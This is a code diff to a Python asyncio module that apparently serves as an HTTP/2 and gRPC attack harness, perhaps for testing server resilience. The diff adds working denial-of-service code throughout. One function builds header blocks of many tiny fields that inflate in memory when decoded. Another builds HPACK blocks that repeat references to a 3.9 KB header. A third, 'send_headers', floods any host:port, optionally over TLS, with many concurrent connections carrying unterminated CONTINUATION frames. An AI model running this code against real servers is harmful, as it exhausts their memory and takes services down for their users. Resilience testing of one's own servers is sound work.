@@ -5,13 +5,14 @@ the connection and with it the attack.
 """
 
 import asyncio
+import ssl
 from collections.abc import AsyncIterator, Iterable
 from contextlib import asynccontextmanager
 from itertools import count
 from typing import Self
 
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-_DATA, _HEADERS, _RST, _SETTINGS, _PING, _GOAWAY, _WINDOW = 0, 1, 3, 4, 6, 7, 8
+_DATA, _HEADERS, _RST, _SETTINGS, _PING, _GOAWAY, _WINDOW, _CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
 _ACK, _END_HEADERS = 1, 4
 _INITIAL_WINDOW_SETTING = 4
 _FRAME_BYTES = 16_384
@@ -49,16 +50,7 @@ class Connection:
     async def call(self, method: str, metadata: Iterable[tuple[str, str]] = ()) -> int:
         """Opens a stream for ``/package.Service/Method``; its identifier."""
         number = next(self._streams)
-        fields = [
-            (":method", "POST"),
-            (":scheme", "http"),
-            (":path", method),
-            (":authority", "localhost"),
-            ("content-type", "application/grpc"),
-            ("te", "trailers"),
-            *metadata,
-        ]
-        block = b"".join(b"\0" + _text(name) + _text(value) for name, value in fields)
+        block = b"".join(_field(name, value) for name, value in (*_request(method), *metadata))
         self._stream_windows[number] = self._initial
         self.open.add(number)
         self._writer.write(_frame(_HEADERS, _END_HEADERS, number, block))
@@ -238,6 +230,86 @@ async def endless_bodies(
         await asyncio.gather(*tasks, return_exceptions=True)
         for connection in made:
             await connection.close()
+
+
+def tiny_fields(method: str, size: int) -> bytes:
+    """A header block of about ``size`` bytes: as many fields as fit, which take much more memory decoded."""
+    start = b"".join(_field(name, value) for name, value in _request(method))
+    field = _field("a", "")
+    return start + field * (size // len(field))
+
+
+def references(method: str, size: int) -> bytes:
+    """A header block of about ``size`` bytes, each a reference to one header of 3.9 KB (RFC 7541, 6.1)."""
+    start = b"".join(_field(name, value) for name, value in _request(method))
+    return start + b"\x40" + _text("x-a") + _text("v" * 3_900) + b"\xbe" * size
+
+
+async def send_headers(
+    target: str,
+    block: bytes,
+    *,
+    connections: int,
+    tls: ssl.SSLContext | None = None,
+    name: str | None = None,
+    source: str = "127.0.0.1",
+) -> int:
+    """Sends one header block without an end on each of many connections, in CONTINUATION frames.
+
+    Args:
+        target: The listener, ``host:port``.
+        block: The header block.
+        connections: The number of connections, all at once.
+        tls: TLS of the connections; ``None`` for plaintext.
+        name: The name of the server for TLS.
+        source: The address of this machine to connect from.
+
+    Returns:
+        The bytes of headers that were sent before the other side closed the connections.
+    """
+    host, _, port = target.rpartition(":")
+
+    async def one() -> int:
+        sent = 0
+        writer = None
+        try:
+            _, writer = await asyncio.open_connection(
+                host.strip("[]"),
+                int(port),
+                ssl=tls,
+                server_hostname=name,
+                local_addr=(source, 0),
+            )
+            writer.write(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
+            for start in range(0, len(block), _FRAME_BYTES):
+                part = block[start : start + _FRAME_BYTES]
+                writer.write(_frame(_CONTINUATION if start else _HEADERS, 0, 1, part))
+                await writer.drain()
+                sent += len(part)
+        except OSError:
+            pass
+        finally:
+            if writer is not None:
+                writer.transport.abort()
+        return sent
+
+    return sum(await asyncio.gather(*(one() for _ in range(connections))))
+
+
+def _request(method: str) -> list[tuple[str, str]]:
+    return [
+        (":method", "POST"),
+        (":scheme", "http"),
+        (":path", method),
+        (":authority", "localhost"),
+        ("content-type", "application/grpc"),
+        ("te", "trailers"),
+    ]
+
+
+def _field(name: str, value: str) -> bytes:
+    """A field that enters no table (RFC 7541, 6.2.2)."""
+    return b"\0" + _text(name) + _text(value)
 
 
 def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
